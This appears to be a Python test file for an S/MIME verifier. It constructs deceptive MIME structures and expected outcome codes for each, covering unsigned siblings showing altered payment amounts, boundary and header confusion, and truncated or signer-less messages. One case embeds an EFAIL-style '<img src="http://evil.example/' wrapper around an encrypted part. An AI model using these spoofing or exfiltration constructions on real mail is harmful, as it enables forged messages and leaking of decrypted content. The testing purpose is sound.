"""What is covered: each odd structure has its outcome (docs/outcomes.md lists them)."""
from bench import (ENTITY, HEAD, b64, build, case, children, clear, encrypted_der, entity_of, mail, oid, parse,
                   signed_der, tlv)
from layers import enc, opaque
from wrappers import BOB, PAY

PROTOCOL = b'multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; '
OTHER = b"Content-Type: text/plain\r\n\r\nPay 9,999.00 EUR.\r\n"


def multi(*bodies, kind=b"multipart/mixed", boundary=b"mm", head=HEAD, close=True):
    return (head + b"MIME-Version: 1.0\r\nContent-Type: " + kind + b'; boundary="' + boundary + b'"\r\n\r\n'
            + b"".join(b"--" + boundary + b"\r\n" + b + b"\r\n" for b in bodies)
            + (b"--" + boundary + b"--\r\n" if close else b""))


def signed_as(*bodies, boundary=b"sg", kind=PROTOCOL, head=HEAD, close=True):
    """A multipart/signed of any parts."""
    return multi(*bodies, kind=kind.rstrip(b"; "), boundary=boundary, head=head, close=close)


P7S = b"Content-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\n"


def p7s(entity=ENTITY, name="alice"):
    return P7S + b64(signed_der(name, entity, detached=True))


def parts_of(der):
    """The fields of the SignedData in a ContentInfo."""
    return children(parse(children(parse(der)[2])[1][1])[2])


def whole_of(fields_):
    return tlv(0x30, oid("1.2.840.113549.1.7.2") + tlv(0xa0, tlv(0x30, build(fields_))))


def content_inside():
    """A detached signature that brings content of its own: what is shown must be what was signed."""
    same = P7S + b64(signed_der())
    case("eContent inside, the same", 65, signed_as(ENTITY, same), said="content of its own")
    case("eContent inside, another is shown", 65, signed_as(OTHER, same))
    case("eContent inside, another is signed", 65, signed_as(ENTITY, P7S + b64(signed_der("alice", OTHER))))
    case("eContent inside, shown is empty", 65, signed_as(b"\r\n", same))
    # nothing was signed that could be shown
    detached = entity_of(signed_der(detached=True))
    case("detached in pkcs7-mime", 65, mail(detached), said="what it signs is not in the message")
    case("detached in pkcs7-mime, signed", 65, mail(opaque(detached)))
    case("detached in pkcs7-mime, in GCM", 65, mail(enc(detached)), *BOB)
    case("detached in pkcs7-mime, in CBC", 5, mail(enc(detached, cipher="aes-256-cbc")), *BOB)
    case("detached in pkcs7-mime, in CBC, decrypted", 5, mail(enc(detached, cipher="aes-256-cbc")), *BOB, verb="decrypt")
    case("detached bare, signed bare", 65, signed_der("alice", signed_der(detached=True), "-econtent_type", "1.2.840.113549.1.7.2"))


def parts_of_signed():
    good = (ENTITY, p7s())
    case("two parts", 0, signed_as(*good), text=ENTITY, absent=(b"pkcs7",))
    case("three parts, the third plain", 65, signed_as(*good, OTHER))
    case("three parts, the first plain", 65, signed_as(OTHER, *good))
    case("three parts, the third a signature", 65, signed_as(*good, p7s()))
    case("three parts, the third empty", 65, signed_as(*good, b""))
    case("one part", 65, signed_as(ENTITY))
    case("one part, the signature", 65, signed_as(p7s()))
    case("no part", 65, signed_as())
    case("parts in turn", 65, signed_as(p7s(), ENTITY))
    for name, kind in (("PGP", b"application/pgp-signature"), ("PGP, encrypted", b"application/pgp-encrypted"),
                       ("unknown", b"application/x-other"), ("empty", b"")):
        kind = b'multipart/signed; protocol="' + kind + b'"'
        case(f"protocol {name}", 4, signed_as(*good, kind=kind), text=signed_as(*good, kind=kind))
        case(f"protocol {name}, three parts", 4, signed_as(*good, OTHER, kind=kind))
    case("protocol missing", 0, signed_as(*good, kind=b"multipart/signed"), text=ENTITY)
    case("protocol missing, PGP inside", 65, signed_as(ENTITY, b"Content-Type: application/pgp-signature\r\n\r\nx",
                                                       kind=b"multipart/signed"))
    for kind in (b"application/x-pkcs7-signature", b"application/pkcs7-mime"):
        case(f"protocol {kind.decode()}", 0, signed_as(*good, kind=b'multipart/signed; protocol="' + kind + b'"'), text=ENTITY)
    for kind in (b"text/plain", b"application/pgp-signature", b"application/octet-stream", b"multipart/mixed; boundary=x",
                 b"message/rfc822", b"application/octet-stream; name=a.txt"):
        case(f"second part {kind.decode()}", 65, signed_as(ENTITY, p7s().replace(
            b"application/pkcs7-signature; name=smime.p7s", kind)))
    case("second part without a type", 65, signed_as(ENTITY, p7s().replace(
        b"Content-Type: application/pkcs7-signature; name=smime.p7s\r\n", b"")))
    case("second part empty", 65, signed_as(ENTITY, P7S))
    case("second part no CMS", 65, signed_as(ENTITY, P7S + b64(b"hello")))
    case("second part encrypted CMS", 65, signed_as(ENTITY, P7S + b64(encrypted_der())))
    case("first part empty, signed so", 0, signed_as(b"", p7s(b"")))
    case("multipart/signed as multipart/mixed", 4, multi(*good), text=multi(*good))


def siblings():
    both = multi(ENTITY, b"Content-Type: text/html\r\n\r\n<p>Pay 1,250.00</p>\r\n", kind=b"multipart/alternative",
                 boundary=b"alt", head=b"")
    both = both.replace(b"MIME-Version: 1.0\r\n", b"")
    inside = clear(both, head=b"")
    case("signed alternative", 0, clear(both), text=both)
    evil = b"Content-Type: text/html\r\n\r\n<p>Pay 9,999.00</p>\r\n"
    first = lambda r: r["parts"][0]
    for kind in (b"multipart/alternative", b"multipart/mixed", b"multipart/related", b"multipart/digest",
                 b"multipart/parallel", b"multipart/report", b"multipart/x-unknown"):
        whole = multi(inside, evil, kind=kind)
        case(f"signed alternative, unprotected sibling in {kind.decode()}", 6, whole, codes_in=["covers-part"], text=whole,
             holds=lambda r: first(r)["path"] == "1" and first(r)["layers"][0]["covers"] == "part" and not r["signed"])
        case(f"sibling before in {kind.decode()}", 6, multi(evil, inside, kind=kind), codes_in=["covers-part"],
             holds=lambda r: first(r)["path"] == "2")
        case(f"sibling in {kind.decode()}, verify", 6, whole, verb="verify")
    case("a multipart around nothing else", 6, multi(inside), codes_in=["covers-part"])
    case("unprotected sibling signed with it", 0, clear(multi(inside, evil, head=b""), boundary=b"whole"))
    case("opaque beside plain", 6, multi(OTHER, opaque()), codes_in=["covers-part"])
    case("encrypted between plain halves", 4, multi(b"Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/", enc(opaque()),
                                                  b"Content-Type: text/html\r\n\r\n\">"), *BOB, absent=(PAY,),
         text=b"<img", codes_in=["part-encrypted"])


def twice():
    nested = clear(clear(head=b"", boundary=b"in"), boundary=b"out")
    case("signed in signed", 0, nested, text=ENTITY, holds=lambda r: [l["type"] for l in r["layers"]] == ["signed"] * 2)
    case("signed in signed, inner altered", 1, clear(clear(head=b"", boundary=b"in").replace(b"1,250", b"9,250"), boundary=b"out"))
    case("signed in signed, outer altered", 1, nested.replace(b"--in\r\nContent-Type: text/plain", b"--in\r\nContent-type: text/plain"))
    case("signed in signed by a stranger", 0, clear(clear(head=b"", boundary=b"in"), "stranger", boundary=b"out"),
         holds=lambda r: [l["signers"][0]["status"] for l in r["layers"]] == ["untrusted", "valid"])
    case("signed by another in signed", 0, clear(clear(head=b"", name="mallory", boundary=b"in"), boundary=b"out"),
         holds=lambda r: [l["signers"][0]["matches_from"] for l in r["layers"]] == [True, False])
    sd = parts_of(signed_der())
    same = whole_of(sd[:-1] + [(0x31, sd[-1][1] * 2)])
    case("two SignerInfos of one certificate", 0, mail(entity_of(same)), text=ENTITY,
         holds=lambda r: [s["status"] for s in r["layers"][0]["signers"]] == ["valid", "valid"])
    part = clear(head=b"")
    case("the same twice as two parts", 6, multi(part, part), codes_in=["covers-part"],
         holds=lambda r: [p["path"] for p in r["parts"]] == ["1", "2"] and
         [p["layers"][0]["signers"][0]["status"] for p in r["parts"]] == ["valid", "valid"])
    case("the same twice, one of them altered", 1, multi(part, part.replace(b"1,250", b"9,250")), codes_in=["part-tampered"])
    case("one content, two signatures as parts", 65, signed_as(ENTITY, p7s(), p7s()))


def messages():
    partial = (HEAD + b"MIME-Version: 1.0\r\nContent-Type: message/partial; id=\"a@b\"; number=1; total=2\r\n\r\n"
               + clear())
    case("message/partial", 4, partial, text=partial, holds=lambda r: r["parts"] == [] and r["layers"] == [])
    case("message/partial below", 4, multi(OTHER, b"Content-Type: message/partial; id=x; number=1; total=1\r\n\r\n" + clear()),
         holds=lambda r: r["parts"] == [])
    case("message/partial signed", 0, clear(b"Content-Type: message/partial; id=x; number=1; total=2\r\n\r\n" + HEAD + b"\r\nhalf\r\n"))
    for kind, inner in (("pkcs7-mime", b"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n\r\n"),
                        ("text", b"Content-Type: text/plain\r\n\r\n"), ("signed", clear(head=b""))):
        external = (b"Content-Type: message/external-body; access-type=URL; URL=\"http://127.0.0.1:1/x\"\r\n\r\n" + inner)
        case(f"external-body of {kind}", 4, HEAD + b"MIME-Version: 1.0\r\n" + external, holds=lambda r: r["parts"] == [])
        case(f"external-body of {kind}, signed", 0, clear(external, boundary=b"whole"))
        case(f"external-body of {kind} beside a signed part", 6, multi(clear(head=b""), external), codes_in=["covers-part"],
             holds=lambda r: [p["path"] for p in r["parts"]] == ["1"])
    whole = b"Content-Type: message/rfc822\r\n\r\n" + clear()
    case("forwarded as message/rfc822", 6, HEAD + b"MIME-Version: 1.0\r\n" + whole, codes_in=["covers-part"])
    case("forwarded in base64", 4, HEAD + b"MIME-Version: 1.0\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n"
         + b64(clear()), holds=lambda r: r["parts"] == [])
    case("message/global", 6, multi(OTHER, whole.replace(b"rfc822", b"global")), codes_in=["covers-part"])


def truncated():
    full = signed_as(ENTITY, p7s())
    close = full.index(b"--sg--")
    case("cut before the close delimiter", 0, full[:close], codes_in=["unclosed-multipart"])
    case("cut within the close delimiter", 0, full[:close + 5], codes_in=["unclosed-multipart"])
    second = full.index(b"--sg\r\nContent-Type: application/pkcs7-signature")
    for at, name in ((second + 10, "in the signature's header"), (close - 200, "in the signature"), (second, "before the signature"),
                     (second - 20, "in the content"), (full.index(b"--sg\r\n"), "before the first part"),
                     (full.index(b"--sg\r\n") + 6, "behind the first delimiter")):
        case(f"cut {name}", 65, full[:at])
    case("mixed without close delimiter", 6, multi(clear(head=b""), OTHER, close=False), codes_in=["covers-part"])
    inner = clear(head=b"")
    case("mixed cut within its signed part", 4, multi(OTHER, inner)[:-400], codes_in=["part-malformed"])
    case("encrypted cut", 65, mail(enc(opaque()))[:-300], *BOB)


def boundaries():
    case("boundary empty", 65, clear(kind=PROTOCOL + b'boundary=""', boundary=b""))
    case("boundary missing", 65, clear(kind=PROTOCOL.rstrip(b"; ")))
    case("boundary of 70", 0, clear(boundary=b"x" * 70), text=PAY)
    case("boundary of 71", 0, clear(boundary=b"x" * 71), text=PAY)
    case("boundary of 255", 0, clear(boundary=b"x" * 255), text=PAY)
    case("boundary of 256", 65, clear(boundary=b"x" * 256))
    case("boundary of 10000", 65, clear(boundary=b"x" * 10000))
    case("boundary with a trailing blank", 0, clear(boundary=b"tr", kind=PROTOCOL + b'boundary="tr "'), text=PAY)
    case("boundary of blanks", 65, clear(kind=PROTOCOL + b'boundary="   "', boundary=b"   "))
    for name, octets in (("NUL", b"a\0b"), ("8-bit", b"a\xe9b"), ("UTF-8", "aéb".encode()), ("DEL", b"a\x7fb"), ("tab", b"a\tb"),
                         ("quote", b'a\\"b')):
        data = clear(boundary=octets.replace(b"\\", b""), kind=PROTOCOL + b'boundary="' + octets + b'"')
        want = 65 if name == "NUL" else 0
        case(f"boundary with {name}", want, data)
        mixed = multi(clear(head=b""), OTHER, boundary=octets)
        case(f"boundary of mixed with {name}", {"NUL": 4, "quote": 4}.get(name, 6), mixed)
    case("boundary that another begins with", 0, clear(multi(ENTITY, OTHER, boundary=b"=_bound2", head=b"").replace(
        b"MIME-Version: 1.0\r\n", b"")), text=b"--=_bound2")
    inner = multi(ENTITY, OTHER, boundary=b"=_b", head=b"").replace(b"MIME-Version: 1.0\r\n", b"")
    case("boundary that begins another", 0, clear(inner), text=inner)
    # a reader that takes the inner one for the outer would show other parts than were signed
    inner = multi(ENTITY, OTHER, boundary=b"=_bound", head=b"").replace(b"MIME-Version: 1.0\r\n", b"")
    case("boundary of the outer used inside", 65, clear(inner))
    case("boundary in upper case on the lines", 65, clear(boundary=b"ABC", kind=PROTOCOL + b"boundary=abc"))
    case("boundary given twice", 0, clear(boundary=b"one", kind=PROTOCOL + b"boundary=one; boundary=two"), text=PAY)
    case("boundary given twice, the second used", 65, clear(boundary=b"two", kind=PROTOCOL + b"boundary=one; boundary=two"))
    for name, param in (("in pieces", b'boundary*0="=_"; boundary*1=bound'), ("coded", b"boundary*=utf-8''%3D_bound"),
                        ("in coded pieces", b"boundary*0*=utf-8''%3D_; boundary*1=bound")):
        case(f"boundary {name} (RFC 2231)", 0, clear(kind=PROTOCOL + param), text=PAY)
    case("boundary plain and coded", 0, clear(kind=PROTOCOL + b"boundary*=utf-8''other; boundary=\"=_bound\""), text=PAY)
    case("boundary plain and coded, the coded used", 65, clear(boundary=b"other", kind=PROTOCOL + b"boundary*=utf-8''other; boundary=x"))


def fields():
    der = signed_der()
    data = mail(entity_of(der))
    type_ = b"Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\n"
    assert type_ in data
    case("Content-Type twice, both S/MIME", 65, data.replace(type_, type_ * 2))
    case("Content-Type twice, the first S/MIME", 65, data.replace(type_, type_ + b"Content-Type: text/plain\r\n"))
    case("Content-Type twice, the second S/MIME", 4, data.replace(type_, b"Content-Type: text/plain\r\n" + type_))
    case("Content-Type twice in a part", 4, multi(OTHER, entity_of(der).replace(type_, type_ + b"Content-Type: text/plain\r\n")),
         codes_in=["part-malformed"])
    code = b"Content-Transfer-Encoding: base64\r\n"
    for name, fields_, want in (("twice the same", code * 2, 0), ("twice, 7bit behind", code + code.replace(b"base64", b"7bit"), 0),
                                ("twice, 7bit before", code.replace(b"base64", b"7bit") + code, 65), ("unknown", b"Content-Transfer-Encoding: uuencode\r\n", 65),
                                ("missing", b"", 65)):
        case(f"Content-Transfer-Encoding {name}", want, data.replace(code, fields_))
    case("Content-Transfer-Encoding of the signature twice", 0, clear(sig_head=P7S.replace(code, code * 2)))
    case("Content-Transfer-Encoding twice in what is signed", 0, clear(b"Content-Type: text/plain\r\n" + code * 2 + b"\r\n" + b64(b"hi")))
    case("MIME-Version missing", 0, data.replace(b"MIME-Version: 1.0\r\n", b""), text=PAY)
    case("MIME-Version missing, clear", 0, clear().replace(b"MIME-Version: 1.0\r\n", b""), text=PAY)
    case("MIME-Version of another kind", 0, data.replace(b"MIME-Version: 1.0", b"MIME-Version: 2.0 (new)"), text=PAY)
    case("MIME-Version twice", 0, data.replace(b"MIME-Version: 1.0\r\n", b"MIME-Version: 1.0\r\n" * 2), text=PAY)
    for kind in (b"application/pkcs7-mime (smime-type=x); (a (nested) one) smime-type (b) = (c) signed-data",
                 b"(before) application/pkcs7-mime; smime-type=signed-data", b"application/(in)pkcs7-mime",
                 b"application/pkcs7-mime; (; smime-type=enveloped-data) name=smime.p7m"):
        case(f"Content-Type with comments: {kind.decode()}", 0, data.replace(type_, b"Content-Type: " + kind + b"\r\n"), text=PAY)
    case("Content-Type within a comment", 4, data.replace(type_, b"Content-Type: text/plain (application/pkcs7-mime)\r\n"))
    for kind in (b"smime-type*=us-ascii'en'signed-data", b"smime-type*0=signed; smime-type*1=-data", b"smime-type=SIGNED-data",
                 b'smime-type="signed-data"', b"smime-type=signed-data; smime-type=enveloped-data", b"smime-type=x; smime-type*=us-ascii''y"):
        case(f"smime-type as {kind.decode()}", 0, data.replace(b"smime-type=signed-data", kind), text=PAY)
    case("Content-Type without a type", 4, data.replace(type_, b"Content-Type: smime-type=signed-data\r\n"))
    case("Content-Type empty", 4, data.replace(type_, b"Content-Type:\r\n"))


def no_signer():
    none = whole_of(parts_of(signed_der())[:-1] + [(0x31, b"")])
    case("no signer at all", 4, mail(entity_of(none)), codes_in=["no-signer"],
         holds=lambda r: r["signed"] is False and r["layers"][0]["signers"] == [])
    detached = whole_of(parts_of(signed_der(detached=True))[:-1] + [(0x31, b"")])
    case("no signer at all, clear", 4, clear(der=detached), codes_in=["no-signer"])
    case("no signer around a signed one", 0, clear(clear(head=b"", boundary=b"in"), der=detached), codes_in=["no-signer"])
    case("no signer, detached, in pkcs7-mime", 4, mail(entity_of(detached)), codes_in=["certs-only"])
    case("no signer in CBC", 5, mail(enc(entity_of(none), cipher="aes-256-cbc")), *BOB)
    case("no signer in GCM", 4, mail(enc(entity_of(none))), *BOB, codes_in=["no-signer"])


def all():
    content_inside()
    parts_of_signed()
    siblings()
    twice()
    messages()
    truncated()
    boundaries()
    fields()
    no_signer()
